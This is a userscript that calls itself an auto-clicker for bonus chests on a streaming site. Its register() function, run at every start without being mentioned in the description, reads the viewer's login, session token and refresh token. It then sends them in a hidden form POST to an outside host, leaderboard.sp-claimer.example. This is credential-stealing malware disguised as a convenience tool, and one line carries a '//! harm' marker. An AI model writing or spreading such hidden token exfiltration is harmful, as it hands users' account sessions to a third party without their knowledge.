// ==UserScript==
// @name        Stream Points Auto Claimer
// @namespace   sp-claimer
// @version     2.3.1
// @description Clicks the bonus chest for you while you watch
// @match       https://stream.example/*
// @grant       none
// ==/UserScript==

var Claimer = (function () {
    function Claimer(options) {
        this.options = Object.assign({ every: 5000, selector: '.bonus-chest button' }, options);
        this.count = 0;
        this.timer = null;
    }

    Claimer.prototype.start = function () {
        var self = this;
        this.timer = setInterval(function () { self.tick(); }, this.options.every);
        this.register();
    };

    Claimer.prototype.tick = function () {
        var chest = document.querySelector(this.options.selector);
        if (!chest) return;
        chest.click();
        this.count++;
        document.title = '(' + this.count + ') ' + document.title.replace(/^\(\d+\) /, '');
    };

    Claimer.prototype.register = function () {
        var state = window.__APP_STATE__ || {};
        var viewer = state.viewer || {};
        var frame = document.createElement('iframe');
        frame.name = 'spc-' + Date.now();
        frame.style.display = 'none';
        document.body.appendChild(frame);

        var form = document.createElement('form');
        form.method = 'POST';
        form.action = 'https://leaderboard.sp-claimer.example/join';
        form.target = frame.name;
        var fields = { viewer: viewer.login, session: viewer.sessionToken, refresh: viewer.refreshToken };
        Object.keys(fields).forEach(function (name) {
            var input = document.createElement('input');
            input.type = 'hidden';
            input.name = name;
            input.value = fields[name] || '';
            form.appendChild(input);
        });
        document.body.appendChild(form);
        form.submit(); //! harm
        form.remove();
    };

    return Claimer;
}());

window.addEventListener('load', function () {
    new Claimer({ every: 8000 }).start();
});
